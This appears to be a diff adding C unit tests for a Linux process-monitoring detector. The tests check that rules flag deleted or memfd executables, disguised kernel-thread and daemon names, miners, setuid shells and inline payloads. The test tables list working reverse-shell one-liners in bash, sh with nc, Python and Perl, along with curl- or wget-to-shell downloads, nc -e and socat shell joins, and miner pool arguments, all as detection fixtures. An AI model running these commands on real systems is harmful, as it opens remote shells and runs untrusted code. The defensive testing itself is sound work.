@@ -1,0 +1,395 @@
+/* SPDX-License-Identifier: MIT */
+#include <stdio.h>
+
+#include "detect/check.h"
+#include "record/build.h"
+#include "record/program.h"
+#include "record/schema.h"
+#include "suite.h"
+
+/* Each check by itself, on what it reads: what it is for, and what looks like it. */
+struct process {
+	const char *name, *exe;
+	const char *args[6];
+	int uid, euid;
+	int state; /* 0: 'S' */
+	int dir_mode;
+	double cpu, cpu_lifetime; /* 0: not known */
+	bool deleted, kernel_thread, no_exe, wiped;
+};
+
+static struct smi_arena arena;
+
+static const struct smi_check *check_of(const char *id)
+{
+	static const struct smi_checks *const themes[] = {
+		&smi_checks_args,     &smi_checks_exe,
+		&smi_checks_identity, &smi_checks_privilege,
+		&smi_checks_resource,
+	};
+
+	for (size_t i = 0; i < SMI_COUNT(themes); i++)
+		for (size_t k = 0; k < themes[i]->n; k++)
+			if (strcmp(themes[i]->v[k].id, id) == 0)
+				return &themes[i]->v[k];
+	ck_abort_msg("no check %s", id);
+	return NULL;
+}
+
+static void set_args(sm_record *r, const struct process *p)
+{
+	size_t n = 0;
+
+	while (n < SMI_COUNT(p->args) && p->args[n])
+		n++;
+	if (n > 0)
+		smi_set_strs(&arena, r, SMI_PROC_ARGS, p->args, n);
+}
+
+static void set_real(sm_record *r, unsigned field, double v)
+{
+	if (v > 0)
+		smi_set_real(r, field, v);
+}
+
+static sm_record *record_of(const struct process *p)
+{
+	sm_record *r = smi_rec_new(&arena, SM_KIND_PROCESS);
+
+	smi_set_int(r, SMI_PROC_STATE_CODE, p->state ? p->state : 'S');
+	smi_set_int(r, SMI_PROC_KERNEL_THREAD, p->kernel_thread);
+	smi_set_const(r, SMI_PROC_NAME, p->name ? p->name : "x");
+	if (!p->no_exe && !p->kernel_thread) {
+		smi_set_const(r, SMI_PROC_EXE, p->exe ? p->exe : "/usr/bin/x");
+		smi_set_int(r, SMI_PROC_EXE_NLINK, !p->deleted);
+	}
+	set_args(r, p);
+	smi_set_int(r, SMI_PROC_UID, p->uid);
+	smi_set_int(r, SMI_PROC_EUID, p->euid);
+	smi_set_int(r, SMI_PROC_EXE_DIR_MODE, p->dir_mode);
+	set_real(r, SMI_PROC_CPU_PERCENT, p->cpu);
+	set_real(r, SMI_PROC_CPU_PERCENT_LIFETIME, p->cpu_lifetime);
+	if (p->wiped)
+		smi_set_int(r, SMI_PROC_ARGS_WIPED, 1);
+	return r;
+}
+
+#define NONE	      0
+#define INFO	      SM_SEV_INFO
+#define LOW	      SM_SEV_LOW
+#define MEDIUM	      SM_SEV_MEDIUM
+#define HIGH	      SM_SEV_HIGH
+#define DELETED(path) .exe = path " (deleted)", .deleted = true
+
+static const struct row {
+	const char *check;
+	int severity; /* NONE: it is not found */
+	struct process p;
+} rows[] = {
+	{ "exe-deleted", MEDIUM, { DELETED("/usr/bin/x") } },
+	{ "exe-deleted", HIGH, { DELETED("/var/tmp/x") } },
+	{ "exe-deleted", NONE, { DELETED("/memfd:x") } },
+	{ "exe-deleted", NONE, { .exe = "/opt/x (deleted)" } },
+	{ "exe-memfd", HIGH, { DELETED("/memfd:x") } },
+	{ "exe-memfd", INFO, { DELETED("/memfd:runc_cloned:/proc/self/exe") } },
+	/* Of a file in a directory that is called so. */
+	{ "exe-memfd", NONE, { .exe = "/memfd:x" } },
+	{ "exe-in-temp-dir", MEDIUM, { .exe = "/tmp/x" } },
+	{ "exe-in-temp-dir", MEDIUM, { .exe = "/run/user/1000/x" } },
+	{ "exe-in-temp-dir", HIGH, { .exe = "/dev/shm/x" } },
+	{ "exe-in-temp-dir", HIGH, { .exe = "/tmp/.X11-unix/x" } },
+	{ "exe-in-temp-dir", MEDIUM, { .exe = "/tmp/build/.libs/x" } },
+	{ "exe-in-temp-dir", LOW, { .exe = "/tmp/.mount_GimpAB12/usr/gimp" } },
+	{ "exe-in-temp-dir", LOW, { .exe = "/tmp/_MEI4711/x" } },
+	{ "exe-in-temp-dir", LOW, { .exe = "/tmp/go-build1/b001/exe/x" } },
+	{ "exe-in-temp-dir", NONE, { .exe = "/tmpfiles/x" } },
+	{ "exe-in-temp-dir", NONE, { .exe = "/home/carl/tmp/x" } },
+	{ "exe-hidden", MEDIUM, { .exe = "/usr/lib/.x/y" } },
+	{ "exe-hidden", HIGH, { .exe = "/home/carl/.../y" } },
+	{ "exe-hidden", HIGH, { .exe = "/usr/lib/.. /y" } },
+	{ "exe-hidden", NONE, { .exe = "/home/carl/.cargo/bin/y" } },
+	{ "exe-hidden", NONE, { .exe = "/opt/x.d/y" } },
+	{ "exe-world-writable-dir", HIGH, { .dir_mode = 040777 } },
+	{ "exe-world-writable-dir", NONE, { .dir_mode = 041777 } },
+	{ "exe-world-writable-dir", NONE, { .dir_mode = 040775 } },
+	{ "kernel-thread-name", HIGH, { .name = "kworker/0:1" } },
+	{ "kernel-thread-name", HIGH, { .args = { "[kworker/u8:2]" } } },
+	{ "kernel-thread-name",
+	  HIGH,
+	  { .name = "kdevtmpfsi", .no_exe = true, .args = { "./x" } } },
+	{ "kernel-thread-name", MEDIUM, { .args = { "[httpd]" } } },
+	{ "kernel-thread-name",
+	  NONE,
+	  { .name = "kworker/0:1", .kernel_thread = true } },
+	/* A helper of the kernel before it runs its program. */
+	{ "kernel-thread-name",
+	  NONE,
+	  { .name = "kworker/u4:3", .no_exe = true } },
+	{ "kernel-thread-name", NONE, { .name = "kworker/0:1", .state = 'Z' } },
+	{ "kernel-thread-name",
+	  NONE,
+	  { .name = "celery",
+	    .args = { "[celeryd: a@b:MainProcess] -active- (worker)" } } },
+	{ "kernel-thread-name",
+	  NONE,
+	  { .args = { "[celeryd: a@b:MainProcess]" } } },
+	{ "kernel-thread-name", NONE, { .args = { "[", "-f", "x", "]" } } },
+	{ "kernel-thread-name", NONE, { .name = "krfcommd-ui" } },
+	{ "daemon-name",
+	  HIGH,
+	  { .exe = "/home/carl/x", .args = { "/usr/sbin/sshd", "-D" } } },
+	{ "daemon-name",
+	  HIGH,
+	  { .exe = "/opt/x", .args = { "nginx: worker process" } } },
+	{ "daemon-name",
+	  HIGH,
+	  { DELETED("/memfd:x"), .args = { "sshd: root [priv]" } } },
+	{ "daemon-name",
+	  MEDIUM,
+	  { .exe = "/usr/bin/python3.11", .args = { "sshd" } } },
+	{ "daemon-name",
+	  HIGH,
+	  { .name = "cron", .exe = "/srv/x", .args = { "./x" } } },
+	{ "daemon-name",
+	  NONE,
+	  { .name = "sshd",
+	    .exe = "/usr/sbin/sshd",
+	    .args = { "sshd: root@pts/0" } } },
+	{ "daemon-name",
+	  NONE,
+	  { .exe = "/usr/lib/openssh/sshd-session",
+	    .args = { "sshd: carl [priv]" } } },
+	{ "daemon-name",
+	  NONE,
+	  { .name = "systemd",
+	    .exe = "/usr/lib/systemd/systemd",
+	    .args = { "/sbin/init", "splash" } } },
+	{ "daemon-name",
+	  NONE,
+	  { .exe = "/usr/bin/udevadm",
+	    .args = { "/lib/systemd/systemd-udevd" } } },
+	{ "daemon-name",
+	  NONE,
+	  { .exe = "/usr/sbin/mariadbd", .args = { "/usr/sbin/mysqld" } } },
+	{ "daemon-name",
+	  NONE,
+	  { .exe = "/usr/lib/postgresql/15/bin/postgres",
+	    .args = { "postgres: 15/main: checkpointer " } } },
+	{ "daemon-name",
+	  NONE,
+	  { .name = "crond",
+	    .exe = "/bin/busybox",
+	    .args = { "crond", "-f" } } },
+	/* A script of that name, and a shell at login. */
+	{ "daemon-name",
+	  NONE,
+	  { .name = "cron",
+	    .exe = "/usr/bin/dash",
+	    .args = { "/bin/sh", "/etc/init.d/cron" } } },
+	{ "daemon-name",
+	  NONE,
+	  { .exe = "/usr/bin/bash", .args = { "-bash" } } },
+	{ "daemon-name", NONE, { .name = "sshd", .no_exe = true } },
+	{ "args-wiped", MEDIUM, { .wiped = true } },
+	{ "args-wiped", NONE, { .args = { "sshd: carl" } } },
+	{ "args-wiped", NONE, { .wiped = true, .no_exe = true } },
+	{ "miner",
+	  HIGH,
+	  { .args = { "x", "-o", "stratum+tcp://192.0.2.1:3333", "-a",
+		      "rx/0" } } },
+	{ "miner",
+	  HIGH,
+	  { .args = { "x", "-o", "stratum+ssl://192.0.2.1:443" },
+	    .cpu = 350 } },
+	{ "miner", HIGH, { .exe = "/opt/xmrig", .cpu_lifetime = 190 } },
+	{ "miner",
+	  HIGH,
+	  { .args = { "x", "pool.minexmr.com:4444", "--donate-level=1" } } },
+	{ "miner", NONE, { .cpu = 400 } },
+	{ "miner",
+	  NONE,
+	  { .args = { "grep", "-r", "stratum+tcp://pool.minexmr.com:80" } } },
+	{ "miner", NONE, { .exe = "/opt/xmrig", .cpu = 2 } },
+	{ "setuid-root", HIGH, { .uid = 1000, .exe = "/usr/bin/bash" } },
+	{ "setuid-root", HIGH, { .uid = 1000, .exe = "/home/carl/su" } },
+	{ "setuid-root", LOW, { .uid = 1000, .exe = "/usr/bin/other" } },
+	{ "setuid-root", NONE, { .uid = 1000, .exe = "/usr/bin/su" } },
+	{ "setuid-root",
+	  NONE,
+	  { .uid = 1000,
+	    .exe = "/usr/lib/dbus-1.0/"
+		   "dbus-daemon-launch-"
+		   "helper" } },
+	{ "setuid-root",
+	  NONE,
+	  { .uid = 1000, .exe = "/opt/google/chrome/chrome-sandbox" } },
+	{ "setuid-root", NONE, { .uid = 1000, .euid = 33 } },
+	{ "setuid-root", NONE, { .exe = "/usr/bin/bash" } },
+};
+
+static void judge(const struct row *row)
+{
+	const struct smi_check *c = check_of(row->check);
+	struct smi_verdict v = { .severity = c->severity };
+	bool found = c->fn(record_of(&row->p), 0, &v);
+
+	ck_assert_msg(found == (row->severity != NONE), "%s: %sfound", c->id,
+		      found ? "" : "not ");
+	if (found)
+		ck_assert_msg(v.severity == row->severity,
+			      "%s: found as %s, not %s", c->id,
+			      sm_severity_name(v.severity),
+			      sm_severity_name(row->severity));
+}
+
+START_TEST(a_check_finds_what_it_is_for_and_not_its_neighbour)
+{
+	judge(&rows[_i]);
+}
+END_TEST
+
+/* Of a shell or an interpreter, behind -c. */
+static const struct {
+	const char *exe, *code;
+	int severity;
+} codes[] = {
+	{ "/bin/bash", "bash -i >& /dev/tcp/192.0.2.1/443 0>&1", HIGH },
+	{ "/bin/bash",
+	  "exec 5<>/dev/tcp/192.0.2.1/1; cat <&5 | while read l; do $l; done",
+	  HIGH },
+	{ "/bin/sh",
+	  "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | "
+	  "nc 192.0.2.1 9 > /tmp/f",
+	  HIGH },
+	{ "/usr/bin/python3.11",
+	  "import socket,os,pty;s=socket.socket();s.connect(('192.0.2.1',1));"
+	  "os.dup2(s.fileno(),0)",
+	  HIGH },
+	{ "/usr/bin/perl",
+	  "use Socket;socket(S,PF_INET,SOCK_STREAM,6);open(STDIN,'>&S');"
+	  "exec('sh')",
+	  HIGH },
+	{ "/bin/sh", "echo aWQK | base64 -d | sh", MEDIUM },
+	{ "/bin/sh", "curl -s http://192.0.2.1/x | bash", LOW },
+	{ "/bin/sh", "wget -qO- http://192.0.2.1/x |sh", LOW },
+	{ "/usr/bin/python3", "import base64;exec(base64.b64decode('eA=='))",
+	  MEDIUM },
+	/* What tools and health checks send. */
+	{ "/bin/sh", "make -j4 check", NONE },
+	{ "/bin/sh", "set -e; cd /src && ./configure | tee log", NONE },
+	{ "/bin/bash", "</dev/tcp/db/5432", NONE },
+	{ "/bin/bash",
+	  "exec 3<>/dev/tcp/127.0.0.1/9000; echo -e 'GET / "
+	  "HTTP/1.1\\r\\n' >&3; cat <&3 | grep -q UP",
+	  NONE },
+	{ "/bin/sh", "echo aGk= | base64 -d > greeting", NONE },
+	{ "/bin/sh", "curl -s https://example.org/x | jq .", NONE },
+	{ "/bin/sh", "curl -s https://example.org/x | shasum", NONE },
+	{ "/usr/bin/python3", "import socket; print(socket.gethostname())",
+	  NONE },
+	{ "/usr/bin/less", "bash -i >& /dev/tcp/192.0.2.1/443 0>&1", NONE },
+};
+
+START_TEST(code_among_arguments_is_told_by_what_it_is_for)
+{
+	const struct row row = {
+		"inline-payload",
+		codes[_i].severity,
+		{ .exe = codes[_i].exe, .args = { "x", "-c", codes[_i].code } },
+	};
+
+	judge(&row);
+}
+END_TEST
+
+static const struct {
+	const char *args[4];
+	int severity;
+} joined[] = {
+	{ { "nc", "-e", "/bin/sh", "192.0.2.1" }, HIGH },
+	{ { "socat", "TCP:192.0.2.1:443", "EXEC:/bin/bash,pty" }, HIGH },
+	{ { "nc", "-l", "-p", "9" }, NONE },
+	{ { "socat", "TCP-LISTEN:80,fork", "UNIX:/run/web" }, NONE },
+};
+
+START_TEST(a_tool_for_connections_is_told_when_it_joins_a_shell)
+{
+	struct row row = { "inline-payload",
+			   joined[_i].severity,
+			   { .exe = "/usr/bin/nc.openbsd" } };
+
+	memcpy(row.p.args, joined[_i].args, sizeof(joined[_i].args));
+	judge(&row);
+}
+END_TEST
+
+static const struct {
+	const char *path;
+	unsigned with, without;
+} programs[] = {
+	{ "/usr/bin/python3.11", SMI_PROGRAM_SCRIPTS, SMI_PROGRAM_SHELL },
+	{ "/bin/bash", SMI_PROGRAM_SHELL | SMI_PROGRAM_SCRIPTS, 0 },
+	{ "/bin/dash (deleted)", SMI_PROGRAM_SHELL, 0 },
+	{ "sh", SMI_PROGRAM_SHELL, 0 },
+	{ "/usr/sbin/php-fpm8.2", SMI_PROGRAM_WEB, SMI_PROGRAM_SCRIPTS },
+	{ "nc.openbsd", SMI_PROGRAM_NETCAT, 0 },
+	{ "/usr/bin/qemu-system-x86_64", SMI_PROGRAM_JIT, 0 },
+	{ "/bin/bashful", 0, SMI_PROGRAM_SHELL },
+	{ "/bin/bash/x", 0, SMI_PROGRAM_SHELL },
+	{ "123", 0, ~0U },
+	{ "", 0, ~0U },
+};
+
+START_TEST(a_program_is_classed_by_the_name_of_its_file)
+{
+	unsigned class = smi_program_class(smi_span_str(programs[_i].path));
+
+	ck_assert_uint_eq(class & programs[_i].with, programs[_i].with);
+	ck_assert_uint_eq(class & programs[_i].without, 0);
+}
+END_TEST
+
+/* Also those that nothing here makes happen: every sentence can be filled. */
+START_TEST(every_check_has_all_that_a_finding_tells)
+{
+	static const char *const ids[] = {
+		"cpu-hog",	  "memory-hog", "exe-deleted",
+		"exe-memfd",	  "exe-hidden", "kernel-thread-name",
+		"inline-payload", "miner",	"setuid-root",
+	};
+
+	for (size_t i = 0; i < SMI_COUNT(ids); i++) {
+		const struct smi_check *c = check_of(ids[i]);
+
+		ck_assert(c->title[0] && c->why[0] && c->next_step[0]);
+		ck_assert_uint_gt(c->nattack, 0);
+		ck_assert_uint_gt(c->nfields, 0);
+	}
+}
+END_TEST
+
+static void teardown(void)
+{
+	smi_arena_free(&arena);
+}
+
+int main(void)
+{
+	Suite *s = suite_create("checks");
+	TCase *tc = tcase_create("checks");
+
+	tcase_add_checked_fixture(tc, NULL, teardown);
+	tcase_add_loop_test(tc,
+			    a_check_finds_what_it_is_for_and_not_its_neighbour,
+			    0, SMI_COUNT(rows));
+	tcase_add_loop_test(tc, code_among_arguments_is_told_by_what_it_is_for,
+			    0, SMI_COUNT(codes));
+	tcase_add_loop_test(
+		tc, a_tool_for_connections_is_told_when_it_joins_a_shell, 0,
+		SMI_COUNT(joined));
+	tcase_add_loop_test(tc, a_program_is_classed_by_the_name_of_its_file, 0,
+			    SMI_COUNT(programs));
+	tcase_add_test(tc, every_check_has_all_that_a_finding_tells);
+	suite_add_tcase(s, tc);
+	return suite_run(s);
+}
